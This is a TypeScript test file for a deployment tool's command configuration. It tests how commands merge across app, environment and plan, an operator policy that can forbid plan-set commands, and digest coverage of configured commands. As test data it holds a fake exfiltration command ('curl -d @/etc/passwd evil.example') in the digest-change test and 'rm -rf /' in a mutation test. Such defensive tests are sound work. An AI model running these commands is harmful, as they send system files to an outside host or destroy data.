/**
 * Deployment commands defined once (issue 14): `commands:` on an app and an environment of the repo config, merged
 * environment over app under a plan's own; what the operator's policy says of a plan's commands; and the config's
 * commands in the release settings the plan digest covers.
 */
import { describe, expect, it } from 'vitest';
import { effectiveCommands } from '../../src/config/effective-commands.ts';
import { parseRepoConfig } from '../../src/config/parse-config.ts';
import {
  describeSettingsChanges,
  releaseSettings,
  releaseSettingsRecord,
  releaseSettingsSchema,
  withApprovedSettings,
} from '../../src/config/release-settings.ts';
import { resolvePlanTargets } from '../../src/config/resolve-hosts.ts';
import type { RepoConfig } from '../../src/config/types.ts';
import { planDigest } from '../../src/plan/digest.ts';
import { parsePlan } from '../../src/plan/parse-plan.ts';
import type { Plan } from '../../src/plan/types.ts';
import { checkPlanAgainstPolicy, planFieldLocator } from '../../src/policy/index.ts';
import { policyFromYaml } from '../helpers/policy-fixtures.ts';
import { issuesOf, planYaml, valueOf } from './plan-fixtures.ts';

/** App checkout-api with app-wide commands, production overriding some of them, staging none of its own. */
const CONFIG = `apps:
  checkout-api:
    deploy_to: /srv/checkout-api
    commands:
      check: ["test -x /usr/bin/node"]
      pre_deploy: ["npm ci --omit=dev"]
      post_deploy: ["systemctl reload checkout-api"]
      health: { http: "http://127.0.0.1:8080/healthz", retries: 5, interval: 1s }
    environments:
      staging: { hosts: [web] }
      production:
        hosts: [web]
        commands:
          post_deploy: ["systemctl reload checkout-api-prod", "logger deployed"]
          pre_deploy: []
          release: ["touch /etc/lb/enabled"]
hosts:
  web: [{ name: web-1, address: 10.0.0.11 }]
roles: { developer: [dev] }
`;

function configOf(text: string): RepoConfig {
  return valueOf(parseRepoConfig(text));
}

function planOf(extra = '', environment = 'production'): Plan {
  return valueOf(parsePlan(planYaml(extra).replace('environment: production', `environment: ${environment}`)));
}

function targetsOf(config: RepoConfig, plan: Plan) {
  const targets = resolvePlanTargets(config, plan);
  if (!targets.ok) throw new Error(JSON.stringify(targets.issues));
  return targets;
}

describe('commands in the repo config', () => {
  it("are read on an app and on an environment with the plan's own schemas", () => {
    const app = configOf(CONFIG).apps['checkout-api'];
    expect(app?.commands).toStrictEqual({
      check: ['test -x /usr/bin/node'],
      preDeploy: ['npm ci --omit=dev'],
      postDeploy: ['systemctl reload checkout-api'],
      health: {
        probe: { kind: 'http', url: 'http://127.0.0.1:8080/healthz', expectStatus: 200 },
        retries: 5,
        intervalMs: 1000,
      },
    });
    // Only the stages it names; an empty list is set too.
    expect(app?.environments.production?.commands).toStrictEqual({
      preDeploy: [],
      postDeploy: ['systemctl reload checkout-api-prod', 'logger deployed'],
      release: ['touch /etc/lb/enabled'],
    });
    expect(app?.environments.staging?.commands).toBeUndefined();
  });

  it("are refused with line and field like a plan's", () => {
    const bad = CONFIG.replace('release: ["touch /etc/lb/enabled"]', 'relase: ["x"]\n          check: 3').replace(
      'health: { http: "http://127.0.0.1:8080/healthz", retries: 5, interval: 1s }',
      'health: { http: "ftp://x", command: "true" }',
    );
    expect(issuesOf(parseRepoConfig(bad))).toStrictEqual([
      'line 8, column 17, apps.checkout-api.commands.health.http: expected an http:// or https:// URL',
      'line 16, column 11, apps.checkout-api.environments.production.commands.relase: unknown field; did you mean release?',
      'line 17, column 11, apps.checkout-api.environments.production.commands.check: expected a list of strings',
    ]);
  });
});

describe('the commands a release runs', () => {
  const config = configOf(CONFIG);

  it('take each stage from the environment, else the app, else nothing', () => {
    const plan = planOf();
    const production = effectiveCommands(plan, targetsOf(config, plan));
    expect(production.commands).toStrictEqual({
      check: ['test -x /usr/bin/node'],
      // The environment's empty list wins over the app's: production runs no pre_deploy.
      preDeploy: [],
      postDeploy: ['systemctl reload checkout-api-prod', 'logger deployed'],
      release: ['touch /etc/lb/enabled'],
      health: {
        probe: { kind: 'http', url: 'http://127.0.0.1:8080/healthz', expectStatus: 200 },
        retries: 5,
        intervalMs: 1000,
      },
    });
    expect(production.origins).toStrictEqual({
      check: { origin: 'app' },
      pre_deploy: { origin: 'environment' },
      post_deploy: { origin: 'environment' },
      release: { origin: 'environment' },
      health: { origin: 'app' },
    });
    const stagingPlan = planOf('', 'staging');
    const staging = effectiveCommands(stagingPlan, targetsOf(config, stagingPlan));
    expect(staging.commands.preDeploy).toStrictEqual(['npm ci --omit=dev']);
    expect(staging.commands.release).toStrictEqual([]);
    expect(staging.origins.release).toBeUndefined();
    expect(staging.origins.pre_deploy).toStrictEqual({ origin: 'app' });
  });

  it('take a stage the plan sets from the plan, marked as an override of what the config had', () => {
    const plan = planOf(
      [
        'commands:',
        '  post_deploy: ["systemctl restart checkout-api"]',
        '  monitor: { command: "true", duration: 10s }',
        '  check: []',
      ].join('\n'),
    );
    const merged = effectiveCommands(plan, targetsOf(config, plan));
    expect(merged.commands.postDeploy).toStrictEqual(['systemctl restart checkout-api']);
    expect(merged.origins.post_deploy).toStrictEqual({
      origin: 'plan',
      replaces: {
        origin: 'environment',
        settings: { postDeploy: ['systemctl reload checkout-api-prod', 'logger deployed'] },
      },
    });
    // A stage the config leaves unset is simply the plan's.
    expect(merged.origins.monitor).toStrictEqual({ origin: 'plan' });
    // An empty list in a plan sets nothing (its parsed form cannot tell it from no key): the app's check runs.
    expect(merged.commands.check).toStrictEqual(['test -x /usr/bin/node']);
    expect(merged.origins.check).toStrictEqual({ origin: 'app' });
    // Not shared with the config: changing what runs leaves the config as it was.
    merged.commands.release.push('rm -rf /');
    expect(config.apps['checkout-api']?.environments.production?.commands?.release).toStrictEqual([
      'touch /etc/lb/enabled',
    ]);
  });
});

describe("allow_custom_commands in the operator's policy", () => {
  const planText = planYaml(['commands:', '  check: ["test -d /srv"]', '  release: ["touch /etc/lb/mine"]'].join('\n'));
  const plan = valueOf(parsePlan(planText));
  const hosts = targetsOf(configOf(CONFIG), plan).hosts;
  const locate = planFieldLocator({ yaml: planText, startLine: 3, indent: 0 });
  const policy = (allow: string) =>
    policyFromYaml(`repos:\n  - match: "acme/*"\n    hosts: ["10.0.0.0/8"]\n${allow}`, '/srv/artifacts');

  it('refuses every stage a plan sets when false, at its line, whether or not the config sets the stage', () => {
    const grant = policy('    allow_custom_commands: false\n').forRepo('acme/shop');
    const issues = checkPlanAgainstPolicy(grant, plan, hosts, locate);
    expect(issues.map((issue) => [issue.line, issue.path])).toStrictEqual([
      [10, 'commands.check'],
      [11, 'commands.release'],
    ]);
    expect(issues[1]?.message).toBe(
      "a plan may not set commands here: rule 1 (acme/*) of the operator's policy /etc/yardmaster/policy.yml has allow_custom_commands: false; only the commands: of .github/yardmaster.yml run (remove commands.release from the plan)",
    );
    // A plan without commands of its own is fine: the config's run.
    expect(checkPlanAgainstPolicy(grant, planOf(), hosts, locate)).toStrictEqual([]);
  });

  it("allows a plan's commands by default", () => {
    expect(checkPlanAgainstPolicy(policy('').forRepo('acme/shop'), plan, hosts, locate)).toStrictEqual([]);
  });
});

describe("the config's commands in the release settings", () => {
  const plan = planOf();

  function settingsOf(text: string) {
    return releaseSettings(targetsOf(configOf(text), plan));
  }

  function digestOf(text: string): string {
    return planDigest(plan, { settings: releaseSettingsRecord(settingsOf(text)) });
  }

  it('are covered by the digest and described when they change', () => {
    const changed = CONFIG.replace('"logger deployed"', '"curl -d @/etc/passwd evil.example"');
    expect(digestOf(changed)).not.toBe(digestOf(CONFIG));
    expect(describeSettingsChanges(settingsOf(CONFIG), settingsOf(changed))).toStrictEqual([
      'commands.post_deploy: ["systemctl reload checkout-api-prod","logger deployed"] → ["systemctl reload checkout-api-prod","curl -d @/etc/passwd evil.example"]',
    ]);
    // The environment stops overriding the app: the app's pre_deploy now runs.
    const unset = CONFIG.replace('          pre_deploy: []\n', '');
    expect(describeSettingsChanges(settingsOf(CONFIG), settingsOf(unset))).toStrictEqual([
      'commands.pre_deploy: [] → ["npm ci --omit=dev"]',
    ]);
  });

  it('are read back as stored, and are absent (as in settings stored before) when the config has none', () => {
    const stored: unknown = JSON.parse(JSON.stringify(releaseSettingsRecord(settingsOf(CONFIG))));
    expect(releaseSettingsSchema.parse(stored)).toStrictEqual(settingsOf(CONFIG));
    const none = CONFIG.replace(/ {4}commands:\n( {6}.*\n)+/, '').replace(/ {8}commands:\n( {10}.*\n)+/, '');
    expect(configOf(none).apps['checkout-api']?.commands).toBeUndefined();
    expect(settingsOf(none)).not.toHaveProperty('commands');
  });

  it('are what a run going by the approved settings runs, whatever the config says now', () => {
    const approved = settingsOf(CONFIG);
    const now = targetsOf(configOf(CONFIG.replace('"logger deployed"', '"logger changed"')), plan);
    const merged = effectiveCommands(plan, withApprovedSettings(now, approved));
    expect(merged.commands.postDeploy).toStrictEqual(['systemctl reload checkout-api-prod', 'logger deployed']);
    expect(merged.commands.preDeploy).toStrictEqual([]);
    expect(merged.commands.check).toStrictEqual(['test -x /usr/bin/node']);
  });
});
